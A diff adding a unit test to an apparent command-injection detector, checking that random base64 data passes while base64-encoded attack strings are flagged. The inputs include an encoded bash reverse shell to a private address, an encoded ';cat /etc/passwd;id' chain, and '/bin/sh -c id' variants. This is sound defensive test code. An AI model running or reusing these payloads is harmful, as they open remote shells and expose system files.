@@ -212,6 +212,26 @@ TEST(WindowsVariable, ShellOrProgramThroughAVariableIsBlocked) {
   }
 }
 
+// A base64 blob's '+' and '/' are data: random bytes encode to "...gfoe/Rm+MnASH...", which the
+// shell reading took for a path to rm with an argument. A command encoded in base64 is still
+// found in the decoded value.
+TEST(Base64Blob, ItsAlphabetIsNoShellSyntax) {
+  Verdict v = testing::InspectAsJson(
+      "+Xe9YBVnxqvJrjFSFGjvd4piWBFChXjCb13gAG4jo6bTryV4ubXCzmCYYIxNW0GfOe/Rm+MnASHBGWtvGjjiYg==");
+  EXPECT_FALSE(Flagged(v)) << v.explanation;
+  for (const char* b64 :
+       {"YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0IDA+JjE=",  // bash -i >& ...
+        "O2NhdCAvZXRjL3Bhc3N3ZDtpZDt1bmFtZSAtYTt3aG9hbWk="}) {   // ;cat /etc/passwd
+    Verdict r = InspectQueryValue(b64);
+    EXPECT_TRUE(Flagged(r)) << b64 << " -> " << r.explanation;
+  }
+  // Paths and commands with '+' for spaces are no blob.
+  for (const char* value : {"/bin/sh+-c+id+x+y+z+aaaaaaaaaaaaaaaaaaaaaaaaaaaa", "x;+id"}) {
+    Verdict r = InspectAsJson(value);
+    EXPECT_TRUE(HasCategory(r, Category::kCmdi)) << value << " -> " << r.explanation;
+  }
+}
+
 // Two key lines do not make a document; an injection after them is still judged.
 TEST(OpsDocument, ShortYamlPrefixDoesNotExcuseAnInjection) {
   Verdict v = InspectAsForm("a: b\n;cat /etc/passwd");
